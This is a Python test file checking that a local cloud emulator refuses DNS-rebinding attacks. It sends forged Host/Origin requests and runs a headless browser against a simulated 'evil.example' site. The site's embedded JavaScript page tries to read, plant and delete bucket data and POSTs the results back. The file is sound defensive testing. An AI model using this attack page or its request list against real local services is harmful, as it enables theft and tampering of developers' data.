"""A web page cannot use the local cloud, also if its host name becomes 127.0.0.1 (DNS rebinding).

For the browser such a page and the local cloud are then one origin, and it lets the page read
answers. What protects the data: each request needs a signature or a token, which no page has.
"""

from __future__ import annotations

import contextlib
import http.client
import http.server
import json
import shutil
import subprocess
import tempfile
import threading
import uuid
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from tests.fakes.local_cloud import BUCKET, LocalCloudProcess

if TYPE_CHECKING:
    from collections.abc import Iterator

SECRET = f"secret-{uuid.uuid4().hex}"
HOST = "evil.example"
TIMEOUT = 300.0  # seconds
BROWSERS = ("chromium", "chromium-browser", "google-chrome")
REQUESTS: tuple[tuple[str, str], ...] = (
    ("GET", "/"),
    ("GET", f"/{BUCKET}/secret.txt"),
    ("GET", f"/{BUCKET}?list-type=2"),
    ("PUT", f"/{BUCKET}/planted"),
    ("POST", f"/{BUCKET}"),
    ("POST", f"/{BUCKET}?delete"),
    ("DELETE", f"/{BUCKET}/secret.txt"),
    ("GET", "/_scar/status"),
    ("POST", "/_scar/stop"),
    ("GET", "/v2/"),
    ("GET", "/v2/_catalog"),
    ("POST", "/v2/planted/blobs/uploads/"),
    ("POST", "/2015-03-31/functions/f/invocations"),
    ("GET", "/2015-03-31/functions"),
    ("POST", "/v1/submitjob"),
)


@pytest.fixture(scope="module")
def cloud() -> Iterator[LocalCloudProcess]:
    cloud = LocalCloudProcess.start("process")
    try:
        s3 = cloud.client("s3")
        s3.create_bucket(Bucket=BUCKET)
        s3.put_object(Bucket=BUCKET, Key="secret.txt", Body=SECRET.encode())
        yield cloud
    finally:
        cloud.control.stop()
        shutil.rmtree(cloud.folder, ignore_errors=True)


def port_of(cloud: LocalCloudProcess) -> int:
    running = cloud.control.home.running_server()
    assert running is not None
    return running.port


def assert_untouched(cloud: LocalCloudProcess) -> None:
    s3 = cloud.client("s3")
    assert [entry["Key"] for entry in s3.list_objects_v2(Bucket=BUCKET)["Contents"]] == [
        "secret.txt"
    ]


@pytest.mark.parametrize("host", [HOST, f"{HOST}:80", "127.0.0.1", "localhost", "[::1]", ""])
@pytest.mark.parametrize("origin", [f"http://{HOST}", "null", None])
def test_requests_of_a_page_are_refused(
    cloud: LocalCloudProcess, host: str, origin: str | None
) -> None:
    for method, path in REQUESTS:
        connection = http.client.HTTPConnection("127.0.0.1", port_of(cloud), timeout=TIMEOUT)
        headers = {"Host": host, **({"Origin": origin} if origin else {})}
        with contextlib.closing(connection):
            connection.request(method, path, b"{}" if method in {"POST", "PUT"} else None, headers)
            response = connection.getresponse()
            body = response.read()
        assert 400 <= response.status < 500, (method, path, response.status)
        assert SECRET.encode() not in body
        assert response.getheader("Access-Control-Allow-Origin") is None
    assert_untouched(cloud)


@pytest.mark.parametrize("wanted", ["PUT", "DELETE", "POST"])
def test_a_preflight_request_allows_nothing(cloud: LocalCloudProcess, wanted: str) -> None:
    connection = http.client.HTTPConnection("127.0.0.1", port_of(cloud), timeout=TIMEOUT)
    headers = {"Origin": f"http://{HOST}", "Access-Control-Request-Method": wanted}
    with contextlib.closing(connection):
        connection.request("OPTIONS", f"/{BUCKET}/planted", headers=headers)
        response = connection.getresponse()
        response.read()
    assert response.status >= 400
    assert response.getheader("Access-Control-Allow-Origin") is None


PAGE = """<!doctype html><script>
(async () => {
  const results = [];
  for (const [method, path] of REQUESTS) {
    try {
      const body = ["GET", "DELETE"].includes(method) ? undefined : "{}";
      const response = await fetch(path + (path.includes("?") ? "&" : "?") + "x", {method, body});
      results.push([method, path, response.status, await response.text()]);
    } catch (error) { results.push([method, path, 0, String(error)]); }
  }
  await fetch("/report", {method: "POST", body: JSON.stringify(results)});
})();
</script>"""


class EvilSite(http.server.ThreadingHTTPServer):
    """The page's server; once it has sent the page, its name belongs to the local cloud.

    For the browser that is the same as a changed DNS record: it connects to ``evil.example``, and
    the local cloud answers. Requests are passed on with the page's headers. The port is that of the
    local cloud, because it is a part of the origin.
    """

    def __init__(self, port: int) -> None:
        super().__init__(("127.0.0.2", port), EvilRequest)
        self.results: list[Any] = []
        self.reported = threading.Event()

    @contextlib.contextmanager
    def serve(self) -> Iterator[None]:
        thread = threading.Thread(target=self.serve_forever, daemon=True)
        thread.start()
        try:
            yield
        finally:
            self.shutdown()
            self.server_close()
            thread.join(timeout=TIMEOUT)


class EvilRequest(http.server.BaseHTTPRequestHandler):
    """One request to ``evil.example``."""

    server: EvilSite

    def do_GET(self) -> None:
        if self.path == "/page":
            self._send(PAGE.replace("REQUESTS", json.dumps(REQUESTS)).encode())
        else:
            self._pass_on()

    def do_POST(self) -> None:
        if self.path == "/report":
            self.server.results = json.loads(self._read_body())
            self._send(b"")
            self.server.reported.set()
        else:
            self._pass_on()

    def do_PUT(self) -> None:
        self._pass_on()

    def do_DELETE(self) -> None:
        self._pass_on()

    def _pass_on(self) -> None:
        port = self.server.server_address[1]
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=TIMEOUT)
        headers = {name: value for name, value in self.headers.items() if name != "Connection"}
        with contextlib.closing(connection):
            connection.request(self.command, self.path, self._read_body(), headers)
            response = connection.getresponse()
            self._send(response.read(), response.status)

    def _read_body(self) -> bytes:
        return self.rfile.read(int(self.headers.get("Content-Length") or 0))

    def _send(self, body: bytes, status: int = 200) -> None:
        self.send_response(status)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        return


def test_a_page_in_a_real_browser_reads_and_changes_nothing(cloud: LocalCloudProcess) -> None:
    browser = next(filter(None, map(shutil.which, BROWSERS)), None)
    if browser is None:
        pytest.skip("no Chromium here")
    port = port_of(cloud)
    site = EvilSite(port)
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile, site.serve():
        command = [
            browser,
            "--headless=new",
            "--no-sandbox",  # root cannot use it
            "--disable-gpu",
            "--no-first-run",
            "--no-proxy-server",
            "--disable-background-networking",
            f"--user-data-dir={Path(profile)}",
            f"--host-resolver-rules=MAP {HOST} 127.0.0.2",
            f"http://{HOST}:{port}/page",
        ]
        with subprocess.Popen(
            command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True
        ) as process:
            try:
                assert site.reported.wait(TIMEOUT)
            finally:
                process.terminate()
                process.wait(timeout=TIMEOUT)
    assert len(site.results) == len(REQUESTS)
    for method, path, status, body in site.results:
        assert 400 <= status < 500, (method, path, status, body)
        assert SECRET not in body
    assert_untouched(cloud)
